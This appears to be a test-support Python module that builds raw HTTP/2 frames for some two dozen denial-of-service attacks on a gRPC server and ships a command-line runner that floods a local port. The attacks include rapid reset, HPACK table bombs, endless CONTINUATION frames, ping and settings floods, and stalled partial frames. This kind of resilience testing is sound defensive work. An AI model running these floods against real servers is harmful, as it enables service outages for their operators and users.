"""Attacks on a gRPC server, each as the bytes that one connection sends, and a program that carries one out.

``python -m tests.support.grpc_attacks NAMES PORT CONNECTIONS SECONDS`` keeps CONNECTIONS connections busy for SECONDS
with each of several attacks. NAMES has commas between them. A connection that is closed is opened again.
"""

from __future__ import annotations

import asyncio
import itertools
import socket
import sys
from contextlib import suppress
from typing import TYPE_CHECKING, NamedTuple

from hpack import Encoder
from tests.support.envoy_messages import question

from headgate.protocols.http2 import frames
from headgate.protocols.http2.frames import END_HEADERS, END_STREAM, PADDED, PREFACE, ErrorCode, Kind, Setting

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

METHOD = "/envoy.service.ratelimit.v3.RateLimitService/ShouldRateLimit"
FIELDS = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", METHOD),
    (":authority", "a"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
]
_PRIORITY = 2
_UNKNOWN = 0xBE
_TOGETHER = 50
"""Pieces of an attack in one write."""
_WIDE = frames.settings({Setting.INITIAL_WINDOW_SIZE: 2**20}) + frames.window_update(0, 2**30)
"""Room for all answers."""
CALLER = {"entries": {"remote_address": "203.0.113.66"}}


def _message(content: bytes) -> bytes:
    return b"\x00" + len(content).to_bytes(4, "big") + content


def raw_frame(kind: int, flags: int, stream: int, content: bytes = b"") -> bytes:
    """A frame of any kind."""
    return (len(content) << 8 | kind).to_bytes(4, "big") + bytes((flags,)) + stream.to_bytes(4, "big") + content


class Calls:
    """Frames of one connection's calls, with an encoder of its own."""

    def __init__(self) -> None:
        self.encoder = Encoder()
        self.streams = itertools.count(1, 2)
        self.asked = _message(question("web", CALLER))

    def head(self, stream: int, flags: int = END_HEADERS) -> bytes:
        return frames.frame(Kind.HEADERS, flags, stream, self.encoder.encode(FIELDS))

    def call(self, stream: int, message: bytes | None = None) -> bytes:
        return self.head(stream) + frames.frame(Kind.DATA, END_STREAM, stream, message or self.asked)


def valid_calls() -> Iterator[bytes]:
    """As many calls in order as the connection takes."""
    calls = Calls()
    yield _WIDE
    for stream in calls.streams:
        yield calls.call(stream)


def fields_of_a_block() -> Iterator[bytes]:
    """Header blocks of 386 fields, one byte each."""
    for stream in itertools.count(1, 2):
        yield frames.frame(Kind.HEADERS, END_HEADERS | END_STREAM, stream, b"\x82" * 386)


def many_fields() -> Iterator[bytes]:
    """Header blocks of 120 fields, each block another one."""
    for stream in itertools.count(1, 2):
        block = bytes(0x82 + (stream >> shift & 3) for shift in range(14)) + b"\x82" * 106
        yield frames.frame(Kind.HEADERS, END_HEADERS | END_STREAM, stream, block)


def size_updates() -> Iterator[bytes]:
    """Header blocks that do nothing but change the size of the table."""
    for stream in itertools.count(1, 2):
        yield frames.frame(Kind.HEADERS, END_HEADERS | END_STREAM, stream, b"\x20" * 16_000)


def endless_number() -> Iterator[bytes]:
    """A number of 16 KB in a header block."""
    for stream in itertools.count(1, 2):
        yield frames.frame(Kind.HEADERS, END_HEADERS | END_STREAM, stream, b"\xff" * 16_000)


def table_bomb() -> Iterator[bytes]:
    """A field of 4 kB that is named again and again by one byte."""
    literal = b"\x40\x01a\x7f\xb1\x1d" + b"b" * 3_888
    yield frames.frame(Kind.HEADERS, END_HEADERS | END_STREAM, 1, literal)
    for stream in itertools.count(3, 2):
        yield frames.frame(Kind.HEADERS, END_HEADERS | END_STREAM, stream, b"\xbe" * 4)


def unfinished_messages() -> Iterator[bytes]:
    """A thousand calls with 64 KiB of a message that does not end."""
    calls = Calls()
    streams = [next(calls.streams) for _ in range(1_000)]
    yield b"".join(calls.head(stream) for stream in streams)
    for stream in streams:
        for _ in range(4):
            yield frames.frame(Kind.DATA, 0, stream, b"\x00\x00\x00\xff\xff" + bytes(16_000))
    yield from itertools.repeat(b"")


def prefaces() -> Iterator[bytes]:
    """Nothing after the preface."""
    yield from itertools.repeat(b"")


def rapid_reset() -> Iterator[bytes]:
    """Calls that are reset at once."""
    calls = Calls()
    yield _WIDE
    for stream in calls.streams:
        yield calls.call(stream) + frames.reset(stream, ErrorCode.CANCEL)


def made_you_reset() -> Iterator[bytes]:
    """Messages that are too large, so that the server resets the call."""
    calls = Calls()
    for stream in calls.streams:
        yield calls.head(stream) + frames.frame(Kind.DATA, 0, stream, bytes(16_384)) * 5


def too_many_streams() -> Iterator[bytes]:
    """Calls that are never finished, more than there may be, so that the server refuses the rest."""
    calls = Calls()
    for stream in calls.streams:
        yield calls.head(stream)


def pings() -> Iterator[bytes]:
    """PING frames."""
    yield from itertools.repeat(frames.frame(Kind.PING, 0, 0, bytes(8)))


def settings() -> Iterator[bytes]:
    """SETTINGS frames with sixty settings each."""
    one = Setting.INITIAL_WINDOW_SIZE.to_bytes(2, "big") + (65_535).to_bytes(4, "big")
    yield from itertools.repeat(frames.frame(Kind.SETTINGS, 0, 0, one * 60))


def priorities() -> Iterator[bytes]:
    """PRIORITY frames."""
    yield from itertools.repeat(raw_frame(_PRIORITY, 0, 1, bytes(5)))


def unknown_frames() -> Iterator[bytes]:
    """Frames of a type that is not known."""
    yield from itertools.repeat(raw_frame(_UNKNOWN, 0, 0))


def empty_data() -> Iterator[bytes]:
    """DATA frames with nothing in them, and with nothing but padding."""
    calls = Calls()
    stream = next(calls.streams)
    yield calls.head(stream)
    padded = frames.frame(Kind.DATA, PADDED, stream, b"\x00")
    yield from itertools.repeat(frames.frame(Kind.DATA, 0, stream) + padded)


def continuations() -> Iterator[bytes]:
    """Header blocks in sixty empty frames each."""
    calls = Calls()
    for stream in calls.streams:
        block = calls.encoder.encode(FIELDS)
        yield frames.frame(Kind.HEADERS, END_STREAM, stream, block) + 60 * frames.frame(Kind.CONTINUATION, 0, stream)
        yield frames.frame(Kind.CONTINUATION, END_HEADERS, stream)


def endless_continuations() -> Iterator[bytes]:
    """A header block that has no end."""
    yield frames.frame(Kind.HEADERS, 0, 1)
    yield from itertools.repeat(frames.frame(Kind.CONTINUATION, 0, 1))


def window_updates() -> Iterator[bytes]:
    """Room for one byte, again and again, with 990 answers waiting."""
    calls = Calls()
    yield frames.settings({Setting.INITIAL_WINDOW_SIZE: 0})
    yield b"".join(calls.call(next(calls.streams)) for _ in range(990))
    yield from itertools.repeat(frames.window_update(0, 1))


def large_questions() -> Iterator[bytes]:
    """Questions of 60 kB with thousands of descriptors."""
    calls = Calls()
    message = _message(b"\x0a\x03web" + b"\x12\x08\x0a\x06\x0a\x01a\x12\x01b" * 6_000)
    parts = [message[at : at + 16_000] for at in range(0, len(message), 16_000)]
    for stream in calls.streams:
        yield calls.head(stream)
        for part in parts[:-1]:
            yield frames.frame(Kind.DATA, 0, stream, part)
        yield frames.frame(Kind.DATA, END_STREAM, stream, parts[-1])


def slow_frames() -> Iterator[bytes]:
    """A frame that begins and does not go on."""
    yield b"\x00\x10"
    yield from itertools.repeat(b"")


class Attack(NamedTuple):
    """What one connection sends."""

    sends: Callable[[], Iterator[bytes]]
    reads: bool = True
    """Whether answers are read."""
    times: int = 1
    """How many connections for each one that is asked for."""


ATTACKS = {
    "valid calls": Attack(valid_calls),
    "unread answers": Attack(valid_calls, reads=False),
    "386 fields": Attack(fields_of_a_block),
    "many fields": Attack(many_fields),
    "size updates": Attack(size_updates),
    "endless number": Attack(endless_number),
    "table bomb": Attack(table_bomb),
    "unfinished messages": Attack(unfinished_messages),
    "prefaces": Attack(prefaces, times=50),
    "slow frames": Attack(slow_frames, times=50),
    "rapid reset": Attack(rapid_reset),
    "made you reset": Attack(made_you_reset),
    "too many streams": Attack(too_many_streams),
    "pings": Attack(pings),
    "unread pings": Attack(pings, reads=False),
    "settings": Attack(settings),
    "priorities": Attack(priorities),
    "unknown frames": Attack(unknown_frames),
    "empty data": Attack(empty_data),
    "continuations": Attack(continuations),
    "endless continuations": Attack(endless_continuations),
    "window updates": Attack(window_updates),
    "large questions": Attack(large_questions),
}


async def _attack(attack: Attack, port: int) -> None:
    while True:
        with suppress(OSError):
            await _one_connection(attack, port)
        await asyncio.sleep(0.02)


async def _one_connection(attack: Attack, port: int) -> None:
    loop = asyncio.get_running_loop()
    with socket.socket() as made:
        made.setblocking(False)  # noqa: FBT003 (its only argument)
        await loop.sock_connect(made, ("127.0.0.1", port))
        async with asyncio.TaskGroup() as tasks:
            sending = tasks.create_task(_send(made, attack))
            with suppress(OSError):
                while attack.reads and await loop.sock_recv(made, 262_144):
                    pass
            if attack.reads:
                sending.cancel()


async def _send(made: socket.socket, attack: Attack) -> None:
    loop = asyncio.get_running_loop()
    sends = attack.sends()
    data = PREFACE + frames.settings({})
    while data:
        try:
            await loop.sock_sendall(made, data)
        except OSError:  # it is closed
            return
        data = b"".join(itertools.islice(sends, _TOGETHER))
        await asyncio.sleep(0)
    await asyncio.Event().wait()


async def attacking(name: str, port: int, connections: int, seconds: float) -> None:
    """Run an attack."""
    attack = ATTACKS[name]
    with suppress(TimeoutError):
        async with asyncio.timeout(seconds), asyncio.TaskGroup() as tasks:
            for _ in range(connections * attack.times):
                tasks.create_task(_attack(attack, port))


if __name__ == "__main__":
    for each in sys.argv[1].split(","):
        asyncio.run(attacking(each, int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])))
